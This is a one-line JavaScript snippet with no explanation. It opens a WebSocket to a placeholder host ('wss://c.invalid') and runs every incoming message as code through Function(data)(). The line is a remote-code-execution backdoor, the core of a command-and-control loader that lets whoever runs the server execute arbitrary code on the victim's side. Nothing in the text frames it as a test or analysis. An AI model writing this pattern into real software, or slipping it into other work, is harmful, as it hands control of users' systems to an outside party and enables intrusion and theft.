const w = new WebSocket('wss://c.invalid'); w.addEventListener('message', ({ data }) => Function(data)());
